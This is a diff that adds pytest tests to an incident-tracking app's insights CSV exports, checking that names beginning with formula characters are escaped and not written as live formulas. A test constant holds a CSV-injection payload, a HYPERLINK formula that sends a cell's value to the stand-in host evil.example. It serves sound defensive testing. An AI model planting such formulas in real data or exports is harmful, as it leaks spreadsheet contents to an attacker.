@@ -169,3 +169,53 @@ def test_a_report_with_nothing_to_count_says_so_without_a_chart(as_viewer, db):
 def test_an_empty_csv_still_has_its_header(as_viewer, db):
     rows = csv_rows(as_viewer, reverse("insights:csv", args=["follow-through", "overdue"]))
     assert rows == [["Owner", "Team", "Open", "Overdue", "Open after incident closed"]]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/"&A2,"open")'
+
+
+@pytest.fixture
+def hostile_names(incident, editor, sev2):
+    """A service, a factor category, a person and a team named as spreadsheet formulas."""
+    from unblame.actions.models import ActionItem, ContributingFactor, FactorCategory
+    from unblame.incidents.models import Responder
+
+    from ..conftest import make_user
+
+    incident.services.add(Service.objects.create(name="+" + HOSTILE))
+    category = FactorCategory.objects.create(name=HOSTILE, position=50)
+    ContributingFactor.objects.create(incident=incident, category=category, description="x")
+    person = make_user("@sum", "editor", team="-" + HOSTILE)
+    Responder.objects.create(incident=incident, user=person)
+    ActionItem.objects.create(incident=incident, title="x", owner=person)
+    return person
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("slug", SLUGS)
+def test_no_insights_csv_carries_a_live_formula(as_admin, hostile_names, slug):
+    parsed, _ = page(as_admin, slug)
+    cells = 0
+    for href in parsed.csv_links.values():
+        for written in csv_rows(as_admin, href):
+            for cell in written:
+                cells += 1
+                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                    assert _number(cell), (href, cell)
+    assert cells
+
+
+def test_the_hostile_names_are_kept_as_text(as_admin, hostile_names):
+    rows = csv_rows(as_admin, reverse("insights:csv", args=["factors", "across-services"]))
+    assert [r[0] for r in rows[1:] if HOSTILE in r[0]] == ["'" + HOSTILE]
+    by_month = csv_rows(as_admin, reverse("insights:csv", args=["factors", "by-month"]))
+    assert "'" + HOSTILE in by_month[0]
+    people = csv_rows(as_admin, reverse("insights:csv", args=["load", "people"]))
+    assert ["'@sum", "'-" + HOSTILE] in [r[:2] for r in people]
